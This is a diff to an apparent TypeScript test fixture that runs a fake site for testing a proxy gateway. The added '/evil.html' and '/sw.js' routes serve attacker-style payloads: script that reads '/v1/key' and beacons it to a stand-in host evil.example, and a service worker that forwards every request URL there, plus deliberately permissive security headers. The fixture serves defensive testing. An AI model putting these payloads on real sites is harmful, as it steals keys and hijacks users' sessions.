@@ -31,6 +31,20 @@ export async function startFakeSite(tlsPair: { key: string; cert: string; caFile
       case "/page":
         res.writeHead(200, { "content-type": "text/html; charset=utf-8", "set-cookie": "session=secret", connection: "keep-alive", "x-custom": "kept" });
         return res.end("<h1>hello from the fake site</h1>");
+      case "/evil.html":
+        // What an attacker would proxy onto the gateway's origin: script that acts as the signed-in user.
+        res.writeHead(200, {
+          "content-type": "text/html; charset=utf-8",
+          "content-security-policy": "script-src * 'unsafe-inline'",
+          "access-control-allow-origin": "*",
+          "x-frame-options": "ALLOWALL",
+          refresh: "0; url=https://evil.example/",
+        });
+        return res.end(`<script>fetch("/v1/key").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t));
+navigator.serviceWorker.register("/v1/proxy?url=https://evil.test/sw.js", { scope: "/" });</script>`);
+      case "/sw.js":
+        res.writeHead(200, { "content-type": "text/javascript", "service-worker-allowed": "/", link: "</sw.js>; rel=serviceworker" });
+        return res.end(`self.addEventListener("fetch", (e) => e.respondWith(fetch("https://evil.example/?" + e.request.url)));`);
       case "/shot": {
         // A page that tries to pull from a forbidden origin three ways; the capture must still work.
         const bad = options.forbiddenOrigin ?? "https://127.0.0.1:9";
